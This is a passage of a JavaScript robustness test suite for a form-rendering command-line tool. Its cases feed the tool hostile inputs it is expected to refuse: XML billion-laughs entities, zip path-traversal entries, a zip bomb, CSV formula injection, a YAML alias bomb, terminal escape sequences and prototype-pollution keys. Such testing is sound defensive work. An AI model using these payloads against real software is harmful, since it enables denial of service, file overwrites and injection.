  add('works', 'xlsx-billion-laughs', 'refuse', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({ prolog: `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${'b'.repeat(i + 1)} "${`&${i ? 'b'.repeat(i) : 'a'};`.repeat(10)}">`).join('')}]>`, rows: worksRowsXml([['&bbbbbbbbb;', ...WORK.slice(1)]], (ref, v) => `<c r="${ref}" t="inlineStr"><is><t>${v}</t></is></c>`) })))));
  add('works', 'xlsx-traversal-entry-names', 'any', (c) => c.yaml(works(c.write('w.xlsx', xlsxOf({ rows: worksRowsXml([WORK]), extra: [{ name: '../../outside/evil.txt', data: 'x' }, { name: '/tmp/evil.txt', data: 'x' }] })))));
  add('works', 'xlsx-not-a-zip', 'any', (c) => c.yaml(works(c.write('w.xlsx', worksCsv([WORK])))));
  add('works', 'xlsx-no-sheets', 'refuse', (c) => c.yaml(works(c.write('w.xlsx', zipOf([{ name: '[Content_Types].xml', data: '<Types/>' }])))));
  add('works', 'xlsx-empty-zip', 'refuse', (c) => c.yaml(works(c.write('w.xlsx', zipOf([])))));
  add('works', 'xlsx-ole-encrypted', 'refuse', (c) => c.yaml(works(c.write('w.xlsx', Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(4000)])))));
  add('works', 'xls-old-format', 'refuse', (c) => c.yaml(works(c.write('w.xls', Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(4000)])))));
  add('works', 'csv-is-a-zip', 'any', (c) => c.yaml(works(c.write('w.csv', xlsxOf({ rows: worksRowsXml([WORK]) })))));
  add('works', 'csv-cp932', 'ok', (c) => c.yaml(works(c.write('w.csv', sjis(worksCsv([WORK]))))));
  add('works', 'csv-utf16le-bom', 'any', (c) => c.yaml(works(c.write('w.csv', utf16(worksCsv([WORK]))))));
  add('works', 'csv-utf16be-bom', 'any', (c) => c.yaml(works(c.write('w.csv', utf16(worksCsv([WORK]), true)))));
  add('works', 'csv-bom-then-cp932', 'refuse', (c) => c.yaml(works(c.write('w.csv', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), sjis(worksCsv([WORK]))])))));
  add('works', 'csv-utf8-then-cp932-row', 'refuse', (c) => c.yaml(works(c.write('w.csv', Buffer.concat([Buffer.from(worksCsv([WORK])), sjis(`題,著者,${WORK.slice(2).join(',')}\n`)])))));
  add('works', 'csv-100001-rows', 'refuse', (c) => c.yaml(works(c.write('w.csv', worksCsv(rowsOf(100_001))))), /多すぎ|too many/);
  add('works', 'csv-one-10MB-field', 'refuse', (c) => c.yaml(works(c.write('w.csv', worksCsv([['a'.repeat(10 << 20), ...WORK.slice(1)]])))));
  add('works', 'csv-unclosed-quote', 'refuse', (c) => c.yaml(works(c.write('w.csv', `${worksCsv([WORK])}"never closed,a,b\n`))));
  add('works', 'csv-nul-bytes', 'refuse', (c) => c.yaml(works(c.write('w.csv', worksCsv([['a\0b', ...WORK.slice(1)]])))));
  add('works', 'csv-10000-columns', 'any', (c) => c.yaml(works(c.write('w.csv', worksCsv([WORK], [...WORK_HEAD, ...Array.from({ length: 10_000 }, (_, i) => `x${i}`)].join(','))))));
  add('works', 'csv-1M-empty-lines', 'any', (c) => c.yaml(works(c.write('w.csv', `${worksCsv([WORK])}${'\n'.repeat(1_000_000)}`))));
  add('works', 'csv-1M-commas', 'any', (c) => c.yaml(works(c.write('w.csv', `${worksCsv([WORK])}${',,,\n'.repeat(1_000_000)}`))));
  add('works', 'csv-only-heading', 'refuse', (c) => c.yaml(works(c.write('w.csv', `${WORK_HEAD.join(',')}\n`))));
  add('works', 'csv-empty', 'refuse', (c) => c.yaml(works(c.write('w.csv', ''))));
  add('works', 'csv-control-chars', 'any', (c) => c.yaml(works(c.write('w.csv', worksCsv([['\x1b[2J\x1b[32m✓ ok\x07', 'a', 'language', 'd\x1b]0;title\x07', ...WORK.slice(4)]])))));
  add('works', 'csv-duplicate-headings', 'refuse', (c) => c.yaml(works(c.write('w.csv', worksCsv([[...WORK, 'x']], `${WORK_HEAD.join(',')},title`)))));
  add('works', 'csv-proto-heading', 'any', (c) => c.yaml(works(c.write('w.csv', worksCsv([[...WORK, 'x']], `${WORK_HEAD.join(',')},__proto__`)))));

  // ── the NDL's list (filled in place) ─────────────────────────────────────────────────────────
  add('ndl-list', 'list-zip-bomb', 'refuse', (c) => c.yaml(list(c.write('l.xlsx', xlsxOf({ sheetXml: Buffer.concat([Buffer.from('<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'), Buffer.alloc(1 << 30, 0x20), Buffer.from('</sheetData></worksheet>')]) })))));
  add('ndl-list', 'list-not-xlsx', 'refuse', (c) => c.yaml(list(c.write('l.xlsx', 'plain text'))));
  add('ndl-list', 'list-truncated-zip', 'refuse', (c) => c.yaml(list(c.write('l.xlsx', readFileSync(join(FIXTURES, 'candidate-list.xlsx')).subarray(0, 9000)))));
  add('ndl-list', 'list-csv-formulas', 'any', (c) => c.yaml(list(c.write('l.csv', `No.,PID,タイトル,著者,出版者,出版年,請求記号,除外基準（1・2・3・留保）,根拠・確認方法,申出者,連絡先,申出日\n1,info:ndljp/pid/2500001,=HYPERLINK("x"),=1+1,@x,1999,x,,,,,\n`))));
  add('ndl-list', 'list-1M-empty-rows', 'any', (c) => c.yaml(list(c.write('l.xlsx', xlsxOf({ rows: Array.from({ length: 1_000_000 }, (_, i) => `<row r="${i + 1}"/>`).join('') })))));

  // ── official_forms: absent pages, boxes off the page ──────────────────────────────────────────
  const form = (c) => c.write('form.pdf', onePagePdf());
  const withMap = (id, fields, expect = 'refuse') => add('official', id, expect, (c) => { form(c); c.write('map.yaml', requestMap(fields)); c.yaml(official('form.pdf', 'map.yaml')); });
  withMap('map-page-99', { 'library.name': '{ page: 99, box: [10, 10, 100, 20] }' });
  withMap('map-page-0', { 'library.name': '{ page: 0, box: [10, 10, 100, 20] }' });
  withMap('map-page-negative', { 'library.name': '{ page: -1, box: [10, 10, 100, 20] }' });
  withMap('map-box-off-page', { 'library.name': '{ page: 1, box: [5000, 5000, 100, 20] }' });
  withMap('map-box-negative', { 'library.name': '{ page: 1, box: [-100, -100, 50, 20] }' });
  withMap('map-box-zero', { 'library.name': '{ page: 1, box: [10, 10, 0, 0] }' });
  withMap('map-box-huge', { 'library.name': '{ page: 1, box: [0, 0, 1e308, 1e308] }' });
  withMap('map-box-nan', { 'library.name': '{ page: 1, box: [.nan, 10, 100, 20] }' });
  withMap('map-box-strings', { 'library.name': '{ page: 1, box: [a, b, c, d] }' });
  withMap('map-box-three', { 'library.name': '{ page: 1, box: [1, 2, 3] }' });
  withMap('map-size-zero', { 'library.name': '{ page: 1, box: [10, 10, 100, 20], size: 0 }' });
  withMap('map-size-huge', { 'library.name': '{ page: 1, box: [10, 10, 100, 20], size: 1e9 }' });
  withMap('map-min-size-over-size', { 'library.name': '{ page: 1, box: [10, 10, 100, 20], size: 8, min_size: 20 }' });
  withMap('map-line-height-zero', { 'library.name': '{ page: 1, box: [10, 10, 100, 20], wrap: true, line_height: 0 }' });
  withMap('map-cells-billion', { 'library.name': '{ page: 1, box: [10, 10, 100, 20], cells: 1000000000 }' });
  withMap('map-unknown-value', { 'library.nmae': '{ page: 1, box: [10, 10, 100, 20] }' });
  withMap('map-proto-value', { __proto__: '{ page: 1, box: [10, 10, 100, 20] }' });
  withMap('map-fine', { 'library.name': '{ page: 1, box: [60, 60, 300, 20] }' }, 'ok');
  add('official', 'map-alias-bomb', 'refuse', (c) => { form(c); c.write('map.yaml', `a0: &a0 [1,1,1,1,1,1,1,1,1]\n${Array.from({ length: 12 }, (_, i) => `a${i + 1}: &a${i + 1} [${Array(9).fill(`*a${i}`).join(',')}]`).join('\n')}\nfields: {}\n`); c.yaml(official('form.pdf', 'map.yaml')); });
  add('official', 'map-dev-zero', 'refuse', (c) => { form(c); symlinkSync('/dev/zero', join(c.case, 'map.yaml')); c.yaml(official('form.pdf', 'map.yaml')); });
  add('official', 'map-missing', 'refuse', (c) => { form(c); c.yaml(official('form.pdf', 'nomap.yaml')); });
  add('official', 'form-pdf-missing', 'refuse', (c) => c.yaml(official('none.pdf')));
  add('official', 'form-pdf-text', 'refuse', (c) => { c.write('form.pdf', 'hello'); c.yaml(official('form.pdf')); });
  add('official', 'form-pdf-no-pages', 'refuse', (c) => { c.write('form.pdf', pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'])); c.yaml(official('form.pdf')); });
  add('official', 'form-pdf-pages-loop', 'refuse', (c) => { c.write('form.pdf', pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>'])); c.yaml(official('form.pdf')); });
  add('official', 'form-pdf-mediabox-nan', 'any', (c) => { c.write('form.pdf', pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1e999 -5] >>'])); c.yaml(official('form.pdf')); });
  add('official', 'form-pdf-acroform-loop', 'any', (c) => { c.write('form.pdf', pdfOf(['<< /Type /Catalog /Pages 2 0 R /AcroForm 4 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', PAGE, '<< /Fields [5 0 R] >>', '<< /T (library) /Kids [5 0 R] >>'])); c.yaml(official('form.pdf')); });

  // ── dates at every edge ──────────────────────────────────────────────────────────────────────
  const DATES = {
    '0000-01-01': 'refuse', '0001-01-01': 'refuse', '1868-01-01': 'refuse', '1926-12-25': 'refuse', '1970-01-01': 'refuse',
    '2026-02-29': 'refuse', '2028-02-29': 'refuse', '2026-04-31': 'refuse', '2026-00-10': 'refuse', '2026-13-01': 'refuse',
    '9999-12-31': 'refuse', '10000-01-01': 'refuse', '-2026-01-01': 'refuse', '2026-12-01T25:00:00': 'refuse',
    '2026-12-01T10:00:00+09:00': 'any', '2026/12/01': 'any', '2026-12-1': 'any', '20261201': 'refuse', '"2026-12-01 "': 'any',
    '大化1年1月1日': 'refuse', '令和0年1月1日': 'refuse', '令和元年5月1日': 'any', '昭和64年1月8日': 'refuse', '平成31年5月1日': 'refuse',
    '明治元年1月1日': 'refuse', '令和99年1月1日': 'refuse', '令和8年12月1日': 'any', '２０２６年１２月１日': 'any', 'R8.12.1': 'any',
    '"~"': 'refuse', '""': 'refuse', '2026-12-01 10:00': 'any',
  };
  for (const [date, expect] of Object.entries(DATES))
    add('dates', `date-${date}`, expect, (c) => c.yaml(fixtureText('ill-receipt').replace(/^date: .*$/m, `date: ${date}`)));
  for (const date of ['0000-01-01', '1926-12-31', '9999-12-31'])
    add('dates', `ruling-date-${date}`, 'refuse', (c) => c.yaml(fixtureText('ruling-reprint').replace(/^date: .*$/m, `date: ${date}`)));
  add('dates', 'deposit-published-0000', 'refuse', (c) => c.yaml(fixtureText('deposit-compensation').replace(/published_on: .*$/m, 'published_on: 0000-01-01')));

  // ── names with control characters ────────────────────────────────────────────────────────────
  const tty = /./;
  add('control', 'case-named-esc', 'refuse', (c) => { c.yaml('form: deposite\n', '\x1b[2J\x1b[32m✓.yaml'); return { args: ['render', 'case', '-o', 'out'] }; }, tty);
  add('control', 'case-named-dots', 'refuse', (c) => { c.yaml(fixtureText('ill-receipt'), '...yaml'); return { args: ['render', 'case/...yaml', '-o', 'out'] }; });
  add('control', 'case-named-dotdot', 'refuse', (c) => { c.yaml(fixtureText('ill-receipt'), '..yaml'); return { args: ['render', 'case/..yaml', '-o', 'out'] }; });
  add('control', 'case-named-hidden', 'refuse', (c) => { c.yaml(fixtureText('ill-receipt'), '.hidden.yaml'); return { args: ['render', 'case/.hidden.yaml', '-o', 'out'] }; });
  add('control', 'case-named-newline', 'refuse', (c) => { c.yaml(fixtureText('ill-receipt'), 'a\nb.yaml'); return { args: ['render', 'case/a\nb.yaml', '-o', 'out'] }; });
  add('control', 'case-named-rtl', 'any', (c) => { c.yaml(fixtureText('ill-receipt'), 'a\u202Eb.yaml'); return { args: ['render', 'case/a\u202Eb.yaml', '-o', 'out'] }; });
  add('control', 'field-name-esc', 'refuse', (c) => c.yaml(`${fixtureText('ill-receipt')}\n"\\e[2K\\e[1A✓ ok\\a": 1\n`));
  add('control', 'value-esc', 'refuse', (c) => c.yaml(fixtureText('ill-receipt').replace(/^date: .*$/m, 'date: "\\e[2K\\e[1A\\u0007\\0"')));
  add('control', 'file-name-esc', 'refuse', (c) => c.yaml(photo('\x1b]0;pwned\x07\x1b[2K.png')));
  add('control', 'file-name-nul', 'refuse', (c) => c.yaml(photo('a\0../../outside/canary.png')));
  add('control', 'out-named-esc', 'ok', (c) => { c.yaml(fixtureText('ill-receipt')); return { args: ['render', 'case/case.yaml', '-o', 'out/\x1b[2Jx', '--format', 'txt'] }; });
  add('control', 'json-output-exact', 'refuse', (c) => { c.yaml(`${fixtureText('ill-receipt')}\n"\\e[2K": "\\u0007\\u0000"\n`); return { args: ['check', 'case/case.yaml', '--json'], json: true }; });

  // ── output folders ───────────────────────────────────────────────────────────────────────────
  const small = (c) => c.yaml(fixtureText('ill-receipt'));
  // Output entries name the command: the folder's trouble is found when writing, never by check.
  add('output', 'out-is-a-file', 'refuse', (c) => { small(c); writeFileSync(c.out, 'x'); return { args: ['render', 'case/case.yaml', '-o', 'out'] }; }, /フォルダ|folder|file/);
  add('output', 'out-proc', 'refuse', (c) => { small(c); return { args: ['render', 'case/case.yaml', '-o', '/proc'] }; });
  add('output', 'out-proc-self', 'refuse', (c) => { small(c); return { args: ['render', 'case/case.yaml', '-o', '/proc/self'] }; });
  add('output', 'out-dev-full', 'refuse', (c) => { small(c); return { args: ['render', 'case/case.yaml', '-o', '/dev/full'] }; });
  add('output', 'out-dev-null', 'refuse', (c) => { small(c); return { args: ['render', 'case/case.yaml', '-o', '/dev/null'] }; });
  add('output', 'out-empty-string', 'usage', (c) => { small(c); return { args: ['render', 'case/case.yaml', '-o', ''] }; });
  add('output', 'out-full-disk', 'refuse', (c) => { c.yaml(fixtureText('ruling-submission')); return { wrap: 'full' }; }, /いっぱい|full/);
  add('output', 'out-read-only', 'refuse', (c) => { small(c); return { wrap: 'readonly' }; }, /読み取り専用|read-only/);
  add('output', 'out-case-folder-symlink-out', 'refuse', (c) => { small(c); mkdirSync(c.out); symlinkSync(c.outside, join(c.out, 'case')); return { args: ['render', 'case/case.yaml', '-o', 'out', '--format', 'txt'] }; }, /リンク|a link/);
  add('output', 'out-manifest-forged', 'ok', (c) => {
    small(c);
    mkdirSync(join(c.out, 'case'), { recursive: true });
    writeFileSync(join(c.out, 'case', '.yoshiki-files'), `../../../outside/canary.csv\n${c.outside}/canary.pdf\n../x\nreceipt-letter.pdf\n`);
  });
  add('output', 'out-document-is-a-folder', 'any', (c) => { small(c); mkdirSync(join(c.out, 'case', 'receipt-letter.pdf'), { recursive: true }); });
  add('output', 'out-document-symlink-out', 'ok', (c) => { small(c); mkdirSync(join(c.out, 'case'), { recursive: true }); symlinkSync(join(c.outside, 'canary.pdf'), join(c.out, 'case', 'receipt-letter.pdf')); });
  add('output', 'two-cases-one-name', 'refuse', (c) => { small(c); mkdirSync(join(c.case, 'b')); writeFileSync(join(c.case, 'b', 'case.yaml'), fixtureText('ill-receipt')); return { batch: true, args: ['render', 'case/case.yaml', 'case/b/case.yaml', '-o', 'out'] }; });
  // The case's documents would go into the folder holding the case itself (-o . from its parent).
  add('output', 'out-the-case-folder', 'refuse', (c) => { small(c); return { args: ['render', 'case/case.yaml', '-o', '.'] }; }, /ケースファイルのあるフォルダ|folder that holds the case/);

  // ── --jobs and other options ─────────────────────────────────────────────────────────────────
  for (const jobs of ['0', '-1', '64', '1e9', 'abc', '1.5', '', '99999999999999999999'])
    add('options', `jobs-${jobs || 'empty'}`, ['64', '1e9', '99999999999999999999'].includes(jobs) ? 'any' : 'usage', (c) => {
      small(c);
      writeFileSync(join(c.case, 'b.yaml'), fixtureText('ill-request'));
      return { args: ['render', 'case', '-o', 'out', '--jobs', jobs, '--format', 'txt'] };
    });
  add('options', 'format-unknown', 'usage', (c) => { small(c); return { args: ['render', 'case/case.yaml', '--format', 'exe'] }; });
  add('options', 'format-traversal', 'usage', (c) => { small(c); return { args: ['render', 'case/case.yaml', '--format', '../../x'] }; });
  add('options', 'out-missing-value', 'usage', (c) => { small(c); return { args: ['render', 'case/case.yaml', '-o'] }; });
  add('options', 'unknown-option', 'usage', (c) => { small(c); return { args: ['render', 'case/case.yaml', '--evil'] }; });
  add('options', '500-case-arguments', 'refuse', (c) => { small(c); return { args: ['check', ...Array(500).fill('case/none.yaml')] }; });

  // ── standard input ───────────────────────────────────────────────────────────────────────────
  add('stdin', 'stdin-garbage', 'refuse', () => ({ args: ['check', '-'], stdin: Buffer.from(Array.from({ length: 100_000 }, (_, i) => (i * 2654435761) & 255)) }));
  add('stdin', 'stdin-empty', 'refuse', () => ({ args: ['check', '-'], stdin: Buffer.alloc(0) }));
  add('stdin', 'stdin-endless-zeros', 'refuse', () => ({ args: ['check', '-'], stdin: 'zero' }), /大きすぎ|too large/);
  add('stdin', 'stdin-6MB', 'refuse', () => ({ args: ['check', '-'], stdin: Buffer.from(`form: deposit\n#${'x'.repeat(6 << 20)}\n`) }), /大きすぎ|too large/);
  add('stdin', 'stdin-render-good', 'ok', (c) => ({ args: ['render', '-', '-o', 'out', '--format', 'txt'], stdin: Buffer.from(fixtureText('ill-receipt')) }));
  add('stdin', 'stdin-names-outside', 'refuse', (c) => ({ args: ['check', '-'], stdin: Buffer.from(photo(join(c.outside, 'canary.png'))) }), /outside|外/);
  add('stdin', 'stdin-twice', 'usage', () => ({ args: ['check', '-', '-'], stdin: Buffer.alloc(0) }));
  add('stdin', 'stdin-utf16', 'any', () => ({ args: ['check', '-'], stdin: utf16(fixtureText('ill-receipt')) }));

  return E;
}

/** Every scalar value of a case (not the form's name, not keys) replaced by what `make` gives. */
export function everyScalar(text, make) {
  const doc = parseDocument(text);
  const made = new Set(); // what was put in is not visited again (a list holding a scalar would recurse)
  const skipMade = (_, node) => (made.has(node) ? visit.SKIP : undefined);
  visit(doc, {
    Pair(_, pair) {
      if (isScalar(pair.key) && pair.key.value === 'form') return visit.SKIP;
      return undefined;
    },
    Seq: skipMade,
    Map: skipMade,
    Scalar(key, node) {
      if (key === 'key' || made.has(node)) return undefined;
      const replacement = make(doc);
      made.add(replacement);
      return replacement;
    },
  });
  return doc.toString({ lineWidth: 0 });
}

/** Every mapping below the top replaced by a text. */
export function everyMapping(text) {
  const doc = parseDocument(text);
  visit(doc, {
    Map(_, node, path) {
      return path.length <= 1 ? undefined : doc.createNode('テキスト');
    },
  });
  return doc.toString({ lineWidth: 0 });
}

const xmlEscape = (s) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/\r/g, '&#13;').replace(/\t/g, '&#9;');
